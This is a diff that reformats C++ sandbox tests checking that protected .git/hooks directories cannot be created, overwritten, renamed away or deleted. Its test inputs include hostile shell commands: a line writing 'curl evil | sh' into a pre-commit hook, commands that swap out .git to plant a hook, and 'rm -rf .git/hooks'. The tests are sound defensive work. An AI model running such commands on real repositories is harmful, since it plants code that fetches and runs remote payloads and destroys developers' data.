@@ -40,8 +40,8 @@ TEST_CASE("protected .git/hooks that exists: no hook can be written") {
 TEST_CASE("protected .git/hooks that does not exist yet cannot be created, and leaves nothing") {
     Scenario s;
     fs::create_directories(s.ws() / ".git");
-    auto r = s.sh("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
-                  kProtectHooks);
+    auto r =
+        s.sh("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit", kProtectHooks);
     require_sandboxed(r);
     CHECK(r.exit_code != 0);
     // No hook, and no placeholder left on the host after the call.
@@ -59,7 +59,8 @@ TEST_CASE("a protected directory cannot be renamed away or replaced") {
     fs::create_directories(s.ws() / ".git" / "hooks");
     write_text(s.ws() / ".git/hooks/pre-commit.sample", "sample\n");
     for (const std::string attack :
-         {"mv .git/hooks moved", "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+         {"mv .git/hooks moved",
+          "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
           "rm -rf .git/hooks"}) {
         CAPTURE(attack);
         auto r = s.sh(attack, kProtectHooks);
@@ -88,7 +89,8 @@ TEST_CASE("two concurrent sandboxes keep each other's placeholder for a missing 
     // A holds its sandbox open until the test says B is done, then tries to create the hook.
     Ran a;
     std::thread first([&] {
-        a = run("touch a-started; until [ -e b-done ]; do :; done; "
+        a =
+            run("touch a-started; until [ -e b-done ]; do :; done; "
                 "mkdir -p .git/hooks 2>/dev/null && echo A-MKDIR; "
                 "echo evil > .git/hooks/pre-commit 2>/dev/null && echo A-WROTE; true");
     });
